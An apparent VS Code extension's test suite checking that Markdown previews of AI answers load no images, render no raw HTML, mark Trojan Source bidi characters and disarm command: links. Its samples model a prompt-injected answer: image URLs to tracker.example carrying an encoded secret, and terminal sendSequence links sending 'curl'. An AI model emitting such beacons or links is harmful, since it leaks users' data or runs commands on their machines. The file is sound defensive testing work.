import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { runConfirmed } from './confirmedCommand';
import { closeAllWithoutSaving } from './closeEditors';
import type { SwitchboardTestApi } from '../../src/vscode/testApi';
import { startFakeProviders, type FakeProviders } from '../fakes';
import { fakeKeys } from '../fakes/fakeKeys';
import { changeSetting } from './settingChange';
import { documentShowing } from './documentShowing';

const EXTENSION_ID = 'switchboard-dev.switchboard';

/** What an answer steered by a file the model read can hold: the code it was shown, in addresses it owns. */
const ANSWER = [
  'Plan',
  '====',
  '',
  '- [ ] Read the config ![status](https://tracker.example/p.png?code=c2VjcmV0)',
  '- [x] Done already',
  '',
  '<img src="https://tracker.example/q.png?code=c2VjcmV0">',
  '',
  'Inline <span style="background:url(https://tracker.example/r.png)">styled</span> text.',
  '',
].join('\n');

/** The preview's HTML for `document`, rendered by VS Code's Markdown extension with its plugins (ours too). */
async function previewHtml(document: vscode.TextDocument): Promise<string> {
  return vscode.commands.executeCommand<string>('markdown.api.render', document);
}

/** Trojan Source (CVE-2021-42574): the comment's override makes the code read otherwise than it runs. */
const TROJAN = 'if (accessLevel != "user\u202E \u2066// Check if admin\u2069 \u2066") {';

/** A saved file in the test's workspace folder, opened. */
async function savedFile(name: string, text: string): Promise<vscode.TextDocument> {
  const file = vscode.Uri.joinPath(vscode.workspace.workspaceFolders![0]!.uri, name);
  await vscode.workspace.fs.writeFile(file, new TextEncoder().encode(text));
  return vscode.workspace.openTextDocument(file);
}


/** The code points the preview's HTML marks as hidden characters, in order. */
function markedCodePoints(html: string): string[] {
  return Array.from(html.matchAll(/<span class="switchboard-hidden-char" title="Hidden character in the answer: [^"]+" data-code-point="(U\+[0-9A-F]+)">[^<]<\/span>/g), (match) => match[1]!);
}

describe('Answer previews', () => {
  let fakes: FakeProviders;
  let sb: SwitchboardTestApi;
  /**
   * The untitled answers Ask wrote, closed last: unsaved, each is reverted so that closing asks nothing. Closed
   * earlier, its name would be given to the next untitled document, which VS Code's preview would then render
   * from the tokens it cached for the answer (it caches by address and version).
   */
  const asked: vscode.TextDocument[] = [];

  before(async () => {
    fakes = await startFakeProviders();
    sb = (await vscode.extensions.getExtension<SwitchboardTestApi>(EXTENSION_ID)!.activate())!;
    await vscode.extensions.getExtension('vscode.markdown-language-features')!.activate();
    await sb.storeKey('openai', fakeKeys.openai('preview'));
    await changeSetting(sb, 'providers.openai.baseUrl', fakes.urls.openai.baseUrl);
    await changeSetting(sb, 'routes.chat', ['openai:gpt-5.4']);
    await changeSetting(sb, 'auto.enabled', false);
  });

  after(async () => {
    // The answers (in `asked`) and the untitled documents the tests opened with content are all unsaved.
    await closeAllWithoutSaving();
    for (const key of ['providers.openai.baseUrl', 'routes.chat', 'auto.enabled']) await changeSetting(sb, key, undefined);
    await sb.clearKey('openai');
    await fakes.close();
  });

  it('loads nothing an untitled answer names: images become links, raw HTML shows as text, the step boxes stay', async () => {
    const document = await vscode.workspace.openTextDocument({ language: 'markdown', content: ANSWER });
    assert.equal(document.uri.scheme, 'untitled');
    const html = await previewHtml(document);
    assert.doesNotMatch(html, /<img\b/i, html);
    assert.doesNotMatch(html, /<span style/i, html);
    assert.match(html, /<a href="https:\/\/tracker\.example\/p\.png\?code=c2VjcmV0"[^>]*>\[image: status\]<\/a>/, html);
    assert.match(html, /&lt;img src=&quot;https:\/\/tracker\.example\/q\.png\?code=c2VjcmV0&quot;&gt;/, html);
    assert.equal(html.match(/<input type="checkbox" class="task-list-item-checkbox" disabled( checked)?>/g)?.length, 2, html);
  });


  it('keeps the protection of an Ask answer once it is saved to a file: no image loads, no raw HTML, hidden characters marked', async () => {
    fakes.openai.script({ text: `${ANSWER}\n\`\`\`js\n${TROJAN}\n\`\`\`\n`, chunks: 5 });
    const outcome = (await runConfirmed(sb, 'switchboard.ask', 'Summarise the config')) as { document: vscode.TextDocument } | undefined;
    assert.ok(outcome, 'Ask returned its document');
    const answer = outcome.document.getText();
    assert.match(answer, /Answered by openai:gpt-5\.4/, 'the answer is signed');
    // What "Save As" writes: the answer's text, in a file of the workspace.
    const saved = await savedFile('saved-answer.md', answer);
    assert.equal(saved.uri.scheme, 'file');

    const html = await previewHtml(saved);
    assert.doesNotMatch(html, /<img\b/i, html);
    assert.doesNotMatch(html, /<span style/i, html);
    assert.match(html, /<a href="https:\/\/tracker\.example\/p\.png\?code=c2VjcmV0"[^>]*>\[image: status\]<\/a>/, html);
    assert.match(html, /&lt;img src=&quot;https:\/\/tracker\.example\/q\.png\?code=c2VjcmV0&quot;&gt;/, html);
    assert.deepEqual(markedCodePoints(html), ['U+202E', 'U+2066', 'U+2069', 'U+2066'], html);
    assert.equal(saved.getText(), answer, 'the document keeps its text');
    asked.push(outcome.document);
  });

  it('protects an Ask answer saved before it ended: the copy carries the signature of an answer being written', async () => {
    // Slow enough that the answer's first lines are shown long before its end.
    fakes.openai.script({ text: `${ANSWER}\n${'More of the answer. '.repeat(40)}\n`, chunks: 40, chunkDelayMs: 100 });
    const imagesShown = documentShowing('q.png?code=c2VjcmV0">');
    const asking = runConfirmed(sb, 'switchboard.ask', 'Summarise the config slowly') as Thenable<{ document: vscode.TextDocument } | undefined>;
    const streaming = await imagesShown;
    // What "Save As" writes while the answer streams: the text so far, in a file of the workspace.
    const midway = streaming.getText();
    assert.doesNotMatch(midway, /Answered by/, 'saved before the answer ended');
    assert.match(midway, /\n---\n_Switchboard is writing this answer…_\n$/);
    const saved = await savedFile('saved-midway.md', midway);

    const html = await previewHtml(saved);
    assert.doesNotMatch(html, /<img\b/i, html);
    assert.match(html, /<a href="https:\/\/tracker\.example\/p\.png\?code=c2VjcmV0"[^>]*>\[image: status\]<\/a>/, html);
    assert.match(html, /&lt;img src=&quot;https:\/\/tracker\.example\/q\.png\?code=c2VjcmV0&quot;&gt;/, html);

    const outcome = await asking;
    assert.ok(outcome, 'Ask returned its document');
    asked.push(outcome.document);
    // The pending line gave its place to the signature: it is said once, at the end.
    const finished = outcome.document.getText();
    assert.doesNotMatch(finished, /Switchboard is writing/);
    assert.match(finished, /More of the answer\. \n\n\n---\n_Answered by openai:gpt-5\.4 [^\n]*_\n$/);
  });

  it("renders a new untitled document that takes a closed answer's name from its own text, not the answer's", async () => {
    const closed = await vscode.workspace.openTextDocument({ language: 'markdown', content: 'The closed answer, step one.\n' });
    assert.match(await previewHtml(closed), /The closed answer, step one\./);
    const rendered = { uri: closed.uri.toString(), version: closed.version };
    const closedSeen = new Promise<void>((resolve) => {
      const watch = vscode.workspace.onDidCloseTextDocument((document) => {
        if (document.uri.toString() !== rendered.uri) return;
        watch.dispose();
        resolve();
      });
    });
    await vscode.window.showTextDocument(closed);
    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
    // Until the extension host hears of the close it still holds the closed document under that name, and a new
    // document given the name can come back as the closed one's data, its text included (a loaded fresh-clone run
    // rendered "The closed answer" for `next`): the user's new document is opened after the close, as here.
    await closedSeen;
    const next = await vscode.workspace.openTextDocument({ language: 'markdown', content: 'My own notes.\n' });
    // The case itself: VS Code gives the lowest free name, and the new document is at the version rendered last.
    assert.deepEqual({ uri: next.uri.toString(), version: next.version }, rendered);
    assert.equal(next.getText(), 'My own notes.\n', 'the new document, not the closed one');
    const html = await previewHtml(next);
    assert.match(html, /My own notes\./, html);
    assert.doesNotMatch(html, /closed answer/, html);
    // Left open (closed with the rest after the suite): closed here, its name and version would be the next untitled
    // document's whenever the close lands first, and VS Code's markdown preview would render that document from the
    // tokens it cached for this one ("My own notes."), as a fresh-clone run under load once did.
  });

  it('marks the hidden characters of an untitled answer in prose, inline code and code blocks', async () => {
    const document = await vscode.workspace.openTextDocument({
      language: 'markdown',
      content: `Prose with a zero\u200Bwidth space and \`co\u202Ede\`.\n\n\`\`\`js\n${TROJAN}\n\`\`\`\n\n\`\`\`x\u2067\nplain\n\`\`\`\n\n[a link](https://example.com/\u202E "ti\u200Ftle")\n`,
    });
    const html = await previewHtml(document);
    assert.deepEqual(markedCodePoints(html), ['U+200B', 'U+202E', 'U+202E', 'U+2066', 'U+2069', 'U+2066'], html);
    // Inside a tag a character is left alone: a span there would break the tag open.
    assert.doesNotMatch(html, /<[^>]*switchboard-hidden-char[^>]*switchboard-hidden-char/, html);
    assert.match(html, /class="[^"]*language-x\u2067/, html);
    assert.match(html, /title="ti\u200Ftle"/, html);
  });

  it("keeps an answer's web, mail, relative and in-page links, and shows the others (command:, vscode:, data:) as text with no address", async () => {
    const document = await vscode.workspace.openTextDocument({
      language: 'markdown',
      content: [
        '[web](https://example.com/docs) [mail](mailto:a@example.com) [notes](./notes.md) [top](#plan)',
        '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%22%7D) [clone](vscode://vscode.git/clone?url=https%3A%2F%2Fexample.com%2Fr.git) [svg](data:image/svg+xml;base64,PHN2Zz4=)',
        '',
      ].join('\n'),
    });
    const html = await previewHtml(document);
    const hrefs = Array.from(html.matchAll(/<a\b[^>]*href="([^"]*)"/g), (match) => match[1]);
    assert.deepEqual(hrefs, ['https://example.com/docs', 'mailto:a@example.com', './notes.md', '#plan'], html);
    // VS Code writes its own scheme (code-oss: in the test build) for vscode:.
    for (const [text, target] of [['run', 'command:workbench'], ['clone', '[a-z-]+://vscode\\.git/clone'], ['svg', 'data:image/svg']] as const) {
      assert.match(html, new RegExp(`<a class="switchboard-unopened-link" title="Not a link in an answer: ${target}[^"]*">${text}</a>`), html);
    }
  });

  // VS Code opens an editor's document links with command links allowed: a Ctrl+click on one in the answer's editor
  // (not its preview) would run the command with the arguments the answer chose.
  it("gives an answer's editor no command: or vscode: link to Ctrl+click, only its web links", async () => {
    fakes.openai.script({
      text: [
        'See [the docs](https://example.com/docs).',
        '[Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D) and <command:workbench.action.openSettings>',
        '[clone](vscode://vscode.git/clone?url=https%3A%2F%2Fexample.com%2Fr.git) [insiders](vscode-insiders://vscode.git/clone?url=x)',
        // Links VS Code's link finder reads as live though something before them only looks like code: a backtick
        // without a pair, a fence line whose info string holds a backtick, a fence inside an HTML block, a fence of a
        // list item that ended; and an HTML link written with an entity, a video's placeholder, a long run of spaces.
        '',
        'A lone ` [lone](command:workbench.action.openSettings)',
        '',
        '``` not a fence `',
        '[info](command:workbench.action.openSettings)',
        '',
        '<div>',
        '```',
        '<a href="command:workbench.action.openSettings">div</a>',
        '```',
        '</div>',
        '',
        '1. Run:',
        '',
        '   ```bash',
        '   npm i',
        '[item](command:workbench.action.openSettings)',
        '',
        '<a href="command&#58;workbench.action.openSettings">entity</a> <video placeholder="command:workbench.action.openSettings"></video>',
        `[spaces](${' '.repeat(80)}command:workbench.action.openSettings)`,
        '',
        'The end: [end](https://example.com/end)',
        '',
      ].join('\n'),
    });
    const outcome = (await runConfirmed(sb, 'switchboard.ask', 'Where are the docs?')) as { document: vscode.TextDocument } | undefined;
    assert.ok(outcome, 'Ask returned its document');
    asked.push(outcome.document);
    // The Markdown language server reads the document as it is synced to it: asked until it has read the last line.
    let targets: string[] = [];
    for (let asked = 0; asked < 100 && !targets.includes('https://example.com/end'); asked++) {
      if (asked > 0) await new Promise((resolve) => setTimeout(resolve, 100));
      const links = await vscode.commands.executeCommand<vscode.DocumentLink[]>('vscode.executeLinkProvider', outcome.document.uri, 100);
      targets = links.map((link) => link.target?.toString(true) ?? '(resolved later)');
    }
    assert.ok(targets.includes('https://example.com/docs') && targets.includes('https://example.com/end'), targets.join(', '));
    // A broken scheme (`command\:…`) may still be a link to a file of that name, which opens nothing but a file.
    assert.deepEqual(targets.filter((target) => !/^(?:https|file|untitled):/.test(target)), [], targets.join(', '));
    assert.match(outcome.document.getText(), /\[Fix it\]\(command\\:workbench/, 'the link reads as written, its scheme broken');
  });

  /** A diagram whose node is an image: Mermaid loads it as the diagram is drawn. */
  const DIAGRAM = 'flowchart TD\n  A@{ img: "https://tracker.example/d.png?code=c2VjcmV0", label: "x", pos: "t", h: 60 }';

  it("shows an answer's diagrams as their source: the preview's Mermaid draws none", async () => {
    const document = await vscode.workspace.openTextDocument({ language: 'markdown', content: `\`\`\`mermaid\n${DIAGRAM}\n\`\`\`\n\n::: mermaid\n${DIAGRAM}\n:::\n` });
    const html = await previewHtml(document);
    assert.doesNotMatch(html, /class="(?:[^"]*\s)?mermaid[\s"]/, html);
    assert.equal(html.match(/<(pre|div) class="switchboard-diagram-source">flowchart TD\n {2}A@\{ img: "https:\/\/tracker\.example\/d\.png\?code=c2VjcmV0"/g)?.length, 2, html);
  });

  it("previews a user's own file as VS Code does: its images, its HTML, its characters unmarked", async () => {
    const html = await previewHtml(await savedFile('own-notes.md', `![logo](https://example.com/logo.png)\n\n<b>bold</b> and a zero\u200Bwidth space, [a command](command:workbench.action.files.save)\n`));
    assert.match(html, /<img\b[^>]*logo\.png/, html);
    assert.match(html, /<b>bold<\/b>/, html);
    assert.deepEqual(markedCodePoints(html), [], html);
    assert.match(html, /zero\u200Bwidth/, html);
    assert.match(html, /<a href="command:workbench\.action\.files\.save"/, html);
    const diagram = await previewHtml(await savedFile('own-diagram.md', `\`\`\`mermaid\n${DIAGRAM}\n\`\`\`\n`));
    assert.match(diagram, /<pre class="mermaid"/, diagram);
  });
});
